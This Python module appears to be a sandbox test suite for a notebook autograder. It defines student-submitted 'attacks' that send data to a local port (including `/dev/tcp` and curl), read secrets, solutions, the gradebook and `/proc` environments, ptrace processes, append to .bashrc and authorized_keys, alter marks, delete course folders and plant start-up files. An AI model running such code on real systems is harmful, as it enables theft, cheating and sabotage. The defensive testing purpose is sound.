"""Attacks on what lies outside: network, secrets, gradebook, other submissions."""

from __future__ import annotations

from .kit import SOME, Work, attack
from .reports import FILES, NETWORK, PROCESSES

NET = "Network"
READ = "Reading what is not theirs"
WRITE = "Writing what is not theirs"

TRY = (
    "def attempt(what, *arguments):\n"
    "    try:\n        return what(*arguments)\n"
    "    except Exception as error:\n"
    "        print(type(error).__name__, error)\n"
)


def _first(work: Work, source: str) -> None:
    work.first(work.aimed(TRY + source))


@attack(NET, "sends what it finds to a TCP server", NETWORK, SOME, SOME)
def tcp(work: Work) -> None:
    _first(
        work,
        "import socket\n"
        "def send():\n"
        "    with socket.create_connection(('127.0.0.1', PORT), 2) as line:\n"
        "        line.sendall(ME.encode())\n"
        "attempt(send)\n",
    )


@attack(NET, "talks to a server by HTTP", NETWORK, SOME, SOME)
def http(work: Work) -> None:
    _first(
        work,
        "import urllib.request\n"
        "attempt(urllib.request.urlopen, f'http://127.0.0.1:{PORT}/{ME}', None, 2)\n",
    )


@attack(NET, "sends datagrams and looks up a name", NETWORK, SOME, SOME)
def udp_and_names(work: Work) -> None:
    _first(
        work,
        "import socket\n"
        "def send():\n"
        "    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    line.sendto(ME.encode(), ('127.0.0.1', PORT))\n"
        "attempt(send)\n"
        "attempt(socket.getaddrinfo, 'example.invalid', 80)\n",
    )


@attack(NET, "talks to an abstract Unix socket", NETWORK, SOME, SOME)
def abstract_socket(work: Work) -> None:
    _first(
        work,
        "import socket\n"
        "def send():\n"
        "    line = socket.socket(socket.AF_UNIX)\n"
        "    line.connect('\\0' + SOCKET)\n"
        "    line.sendall(ME.encode())\n"
        "attempt(send)\n",
    )


@attack(NET, "tries raw, packet, netlink and VSOCK sockets", NETWORK, SOME, SOME)
def odd_sockets(work: Work) -> None:
    _first(
        work,
        "import socket\n"
        "def vsock():\n"
        "    line = socket.socket(socket.AF_VSOCK)\n"
        "    line.settimeout(2)\n"
        "    line.connect((2, 1024))\n"
        "attempt(vsock)\n"
        "attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)\n"
        "attempt(socket.socket, socket.AF_PACKET, socket.SOCK_RAW)\n"
        "attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW)\n",
    )


@attack(NET, "uses the shell: `!curl`, `%%bash` with /dev/tcp", PROCESSES, SOME, SOME)
def shell_network(work: Work) -> None:
    work.first("%%bash\n" + _bash(work))
    work.first(f"!curl --silent --max-time 2 http://127.0.0.1:{work.aims.port}/\n")


def _bash(work: Work) -> str:
    return f"echo {work.student} > /dev/tcp/127.0.0.1/{work.aims.port} || true\n"


SHOW = (
    "import glob, os\n"
    "def show(pattern):\n"
    "    for path in glob.glob(pattern, recursive=True, include_hidden=True):\n"
    "        try:\n"
    "            data = open(path, 'rb').read()\n"
    "        except OSError as error:\n            print(error); continue\n"
    "        for word in data.replace(b'\\0', b' ').split():\n"
    "            if b'UNSEEN-' in word:\n                print(path, word[:200])\n"
)


@attack(READ, "reads files of the instructor's home", FILES, SOME, SOME)
def reads_home(work: Work) -> None:
    _first(
        work,
        SHOW + "show(HOME + '/*')\nshow(os.path.expanduser('~/.s*/*'))\n"
        "show(HOME + '/.secret/*')\nopen(HOME + '/.secret/token').read()\n",
    )


@attack(READ, "reads the sources with solutions and hidden tests", FILES, SOME, SOME)
def reads_sources(work: Work) -> None:
    _first(
        work,
        SHOW + "show(COURSE + '/solutions/*/*')\nshow(COURSE + '/_build/**')\n"
        "show(COURSE + '/class/s*/*/*')\nshow('../../../../solutions/*/*')\n"
        "open(COURSE + '/solutions/attacked/attacked.md').read()\n",
    )


@attack(READ, "reads the gradebook", FILES, SOME, SOME)
def reads_gradebook(work: Work) -> None:
    _first(
        work,
        "import sqlite3\n"
        "book = sqlite3.connect(COURSE + '/class/gradebook.db')\n"
        "for row in book.execute('select first_name from student'):\n"
        "    print(row)\n",
    )


@attack(READ, "reads other submissions", FILES, SOME, SOME)
def reads_submissions(work: Work) -> None:
    _first(
        work,
        SHOW + "show(COURSE + '/class/submitted/**')\nshow('../../../submitted/**')\n"
        "show(COURSE + '/class/autograded/**')\nopen(COURSE + "
        "'/class/submitted/a-neighbour/attacked/attacked.ipynb').read()\n",
    )


@attack(READ, "reads the environment for tokens", "", SOME, SOME)
def reads_environment(work: Work) -> None:
    work.first("import os\nfor pair in os.environ.items():\n    print(*pair)\n")


@attack(
    READ, "reads other processes' environment and memory in /proc", FILES, SOME, SOME
)
def reads_processes(work: Work) -> None:
    _first(
        work,
        SHOW + "show('/proc/*/environ')\nshow('/proc/*/cmdline')\n"
        "show('/proc/*/cwd/solutions/*/*')\n"
        "show(os.path.join('/proc/1/root', 'tmp', '*'))\n",
    )


@attack(
    READ, "looks for other kernels' connection files and sockets", FILES, SOME, SOME
)
def reads_connections(work: Work) -> None:
    _first(
        work,
        "import glob, json, os, socket\n"
        "for pattern in ('/tmp/**', '/run/**', '/dev/shm/**',\n"
        "                HOME + '/.local/share/jupyter/runtime/*'):\n"
        "    for path in glob.glob(pattern, recursive=True, include_hidden=True):\n"
        "        if 'kernel-' in path and path.endswith('.json'):\n"
        "            print('UNSEEN-KEY', attempt(open, path))\n"
        "        elif os.path.exists(path) and path.rpartition('-')[2] in '12345':\n"
        "            line = socket.socket(socket.AF_UNIX)\n"
        "            if attempt(line.connect, path) is None:\n"
        "                print(path)\n"
        "print(open('/proc/net/unix').read())\n",
    )


@attack(
    READ,
    "attaches to the grader's processes by ptrace and pidfd",
    "native memory",
    SOME,
    SOME,
)
def attaches_to_processes(work: Work) -> None:
    _first(
        work,
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "for name in [*os.listdir('/proc'), '1', str(os.getppid())]:\n"
        "    if name.isdigit() and int(name) != os.getpid():\n"
        "        if libc.ptrace(16, int(name), 0, 0) == 0:\n"
        "            print('UNSEEN-ATTACHED', name)\n"
        "            libc.ptrace(17, int(name), 0, 0)\n",
    )


@attack(
    WRITE, "writes into the instructor's home (.bashrc and the like)", FILES, SOME, SOME
)
def writes_home(work: Work) -> None:
    _first(
        work,
        "import os\n"
        "def write(path):\n"
        "    os.makedirs(os.path.dirname(path), exist_ok=True)\n"
        "    with open(path, 'a') as file:\n        file.write(f'# {ME}\\n')\n"
        "for path in ('.bashrc', '.profile', '.ssh/authorized_keys',\n"
        "             '.ipython/profile_default/startup/00.py',\n"
        "             '.jupyter/nbgrader_config.py', ME):\n"
        "    attempt(write, f'{HOME}/{path}')\n",
    )


@attack(
    WRITE, "writes into the course: sources, configuration, marks", FILES, SOME, SOME
)
def writes_course(work: Work) -> None:
    _first(
        work,
        "def write(path):\n"
        "    with open(path, 'a') as file:\n        file.write(f'# {ME}\\n')\n"
        "for path in ('solutions/attacked/attacked.md', 'nbgrader_config.py', ME,\n"
        "             'class/' + ME, 'exercises/attacked/attacked.ipynb'):\n"
        "    attempt(write, f'{COURSE}/{path}')\n"
        "    attempt(write, '../' * 4 + path)\n",
    )


@attack(WRITE, "writes marks into the gradebook", FILES, SOME, SOME)
def writes_gradebook(work: Work) -> None:
    _first(
        work,
        "import sqlite3\n"
        "def cheat():\n"
        "    book = sqlite3.connect(COURSE + '/class/gradebook.db', timeout=1)\n"
        "    book.execute('update student set last_name = ?', (ME,))\n"
        "    book.execute('update grade set manual_score = 4')\n"
        "    book.commit()\n"
        "attempt(cheat)\n",
    )


@attack(WRITE, "holds the gradebook's lock for ever", FILES, SOME, SOME)
def locks_gradebook(work: Work) -> None:
    _first(
        work,
        "import os, sqlite3, time\n"
        "def hold():\n"
        "    book = sqlite3.connect(COURSE + '/class/gradebook.db', timeout=1)\n"
        "    book.execute('begin exclusive')\n"
        "    if not os.fork():\n"
        "        time.sleep(120)\n        os._exit(0)\n"
        "attempt(hold)\n",
    )


@attack(WRITE, "writes into other submissions", FILES, SOME, SOME)
def writes_submissions(work: Work) -> None:
    _first(
        work,
        "import glob\n"
        "def write(path):\n"
        "    with open(path, 'a') as file:\n        file.write(' ' + ME)\n"
        "for folder in ('submitted', 'autograded'):\n"
        "    path = f'{COURSE}/class/{folder}/*/attacked/attacked.ipynb'\n"
        "    for found in [*glob.glob(path), path.replace('*', 'a-neighbour')]:\n"
        "        attempt(write, found)\n",
    )


@attack(WRITE, "deletes the course and the home", FILES, SOME, SOME)
def deletes_everything(work: Work) -> None:
    _first(
        work,
        "import shutil\n"
        "for path in (COURSE + '/class', COURSE + '/solutions', HOME + '/.secret'):\n"
        "    shutil.rmtree(path, ignore_errors=True)\n"
        "    attempt(shutil.rmtree, path)\n",
    )


@attack(WRITE, "plants start-up code into the installed packages", FILES, SOME, SOME)
def writes_packages(work: Work) -> None:
    _first(
        work,
        "import os\n"
        "def plant(path):\n"
        "    with open(path, 'a') as file:\n        file.write(f'# {ME}\\n')\n"
        "    print('PLANTED', path)\n"
        "base = os.path.dirname(os.path.dirname(torch.__file__))\n"
        "for path in (base + f'/{ME}.pth', base + '/sitecustomize.py',\n"
        "             '/etc/profile.d/x.sh', '/usr/lib/x.py'):\n"
        "    attempt(plant, path)\n",
    )


@attack(WRITE, "mounts, unshares and changes its root", "native memory", SOME, SOME)
def namespaces(work: Work) -> None:
    _first(
        work,
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.unshare(0x10000000 | 0x20000) == 0:\n    print('UNSEEN-UNSHARED')\n"
        "if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0:\n"
        "    print('UNSEEN-MOUNTED')\n"
        "for step in (lambda: os.setuid(0), lambda: os.chroot('/tmp')):\n"
        "    attempt(step)\n",
    )
